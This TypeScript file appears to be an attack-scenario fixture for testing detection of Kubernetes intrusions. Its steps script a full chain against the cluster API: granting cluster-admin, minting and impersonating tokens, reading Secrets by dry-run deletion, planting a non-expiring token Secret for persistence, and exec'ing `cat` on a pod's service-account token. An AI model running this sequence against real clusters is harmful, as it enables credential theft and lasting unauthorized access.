import { setTimeout as sleep } from 'node:timers/promises';
import { eventually } from '../../scenario/world.ts';
import { binding, FREE_TOKEN, podSpec } from '../bodies.ts';
import { legacyTokenIn } from '../innocents/automation.ts';
import { AUTHORIZATION, core, RBAC, userOf } from '../paths.ts';
import { created, mayLink, type Step, taken } from '../scene.ts';
import { tokenIn } from '../world.ts';
import { backup, billing, runner, SHELL, vault } from './masks.ts';

/** From one account to the next. */
export const ESCALATION: readonly Step[] = [
  {
    id: 'first-binding',
    phases: ['escalation'],
    title: 'binds cluster-admin to another account',
    as: 'thief',
    left: [created('clusterrolebindings', 'metrics-view')],
    run: (thief) =>
      thief.post(
        201,
        `${RBAC}/clusterrolebindings`,
        binding('metrics-view', 'cluster-admin', 'ops:runner'),
      ),
  },
  {
    id: 'token-minted',
    phases: ['escalation', 'access'],
    title: 'has a token made for that account',
    as: 'thief',
    taken: [taken('token', 'ops/runner')],
    async run(thief, { wear }) {
      const text = await thief.post(201, core('ops', 'serviceaccounts/runner/token'), FREE_TOKEN);
      wear('runner', runner(tokenIn(text)), {
        by: 'thief',
        links: ['granted rights', 'minted token'],
        kind: 'unbound',
        issuedBy: userOf('shop:orders'),
      });
    },
  },
  {
    id: 'runner-looks-around',
    phases: ['recon'],
    title: 'asks what the new token may, and lists all pods and namespaces',
    as: 'runner',
    async run(hand) {
      await hand.post(201, `${AUTHORIZATION}/selfsubjectaccessreviews`, {
        spec: { resourceAttributes: { verb: '*', group: '*', resource: '*' } },
      });
      await hand.get(200, '/api/v1/namespaces?limit=500');
      await hand.get(200, '/api/v1/pods?limit=500');
    },
  },
  {
    id: 'secret-by-field',
    phases: ['access'],
    title: 'lists Secrets with a selector that one name fits',
    as: 'runner',
    taken: [taken('secret', 'payments/report-key', 'list')],
    run: (hand) =>
      hand.get(200, core('payments', 'secrets?fieldSelector=metadata.name%3Dreport-key')),
  },
  {
    id: 'secrets-by-dry-run',
    phases: ['access'],
    title: 'reads all Secrets of a namespace as the answer to a deletion that is none',
    as: 'runner',
    taken: [taken('secret', 'ci/*', 'deletecollection')],
    run: (hand) => hand.delete(200, core('ci', 'secrets?dryRun=All')),
  },
  {
    id: 'impersonated-read',
    phases: ['escalation', 'access'],
    title: 'gets a Secret in the name of a third account',
    as: 'billing',
    taken: [taken('secret', 'payments/card-key', 'get')],
    prepare({ masks, wear }) {
      const token = masks.get('runner')?.who.token ?? '';
      wear('billing', billing(token), { by: 'runner', links: ['impersonated'] });
    },
    run: (hand) => hand.get(200, core('payments', 'secrets/card-key')),
  },
  {
    id: 'legacy-token-made',
    phases: ['persistence'],
    title: 'makes a Secret with a token that never expires, and gets it',
    as: 'runner',
    left: [created('secrets', 'kube-system/registry-cache')],
    async run(hand, { wear }) {
      const annotations = { 'kubernetes.io/service-account.name': 'backup' };
      await hand.post(201, core('kube-system', 'secrets'), {
        metadata: { name: 'registry-cache', annotations },
        type: 'kubernetes.io/service-account-token',
      });
      await sleep(500);
      const token = await eventually(async () =>
        legacyTokenIn(await hand.get(200, core('kube-system', 'secrets/registry-cache'))),
      );
      wear('backup', backup(token), {
        by: 'runner',
        links: ['read token Secret'],
        kind: 'legacy',
        secret: 'kube-system/registry-cache',
        issuedBy: 'system:serviceaccount:ops:runner',
      });
    },
    taken: [taken('secret', 'kube-system/registry-cache', 'get')],
  },
  {
    id: 'legacy-token-used',
    phases: ['access'],
    title: 'lists ConfigMaps and gets a Secret with it',
    as: 'backup',
    taken: [
      taken('configmap', 'kube-system/*', 'list'),
      taken('secret', 'kube-system/backup-key', 'get'),
    ],
    async run(hand) {
      await hand.get(200, core('kube-system', 'configmaps'));
      await hand.get(200, core('kube-system', 'secrets/backup-key'));
    },
  },
  {
    id: 'pod-made',
    phases: ['escalation', 'persistence'],
    title: 'makes a pod that runs as a fourth account',
    as: 'runner',
    left: [created('pods', 'shop/debug-shell')],
    async run(hand, { world, wear }) {
      const { namespace, name, account } = SHELL;
      await hand.post(201, core(namespace, 'pods'), {
        metadata: { name },
        spec: podSpec(account, 'registry.example/shell:1'),
      });
      const token = await world.place(SHELL);
      wear('vault', vault(token), {
        by: 'runner',
        links: ['created pod'],
        kind: 'bound',
        pod: `${namespace}/${name}`,
        issuedBy: `system:node:${SHELL.node}`,
        dead: true,
      });
    },
  },
  {
    id: 'pod-entered',
    phases: ['escalation', 'access'],
    title: 'runs a command in it that shows the token, and reads its log',
    as: 'runner',
    taken: [
      taken('exec', 'shop/debug-shell'),
      taken('log', 'shop/debug-shell'),
      taken('podToken', 'shop/debug-shell'),
    ],
    links: [mayLink(userOf('ops:runner'), userOf('shop:vault'), 'entered pod')],
    async run(hand) {
      const token = '%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken';
      const query = `command=cat&command=${token}&container=main&stdout=true`;
      await hand.exec(101, core('shop', `pods/debug-shell/exec?${query}`));
      await hand.get(200, core('shop', 'pods/debug-shell/log?container=main'));
    },
  },
  {
    id: 'pod-token-used',
    phases: ['access'],
    title: "gets a Secret with that pod's token, from elsewhere",
    as: 'vault',
    taken: [taken('secret', 'shop/vault-unseal', 'get')],
    run: (hand) => hand.get(200, core('shop', 'secrets/vault-unseal')),
  },
];
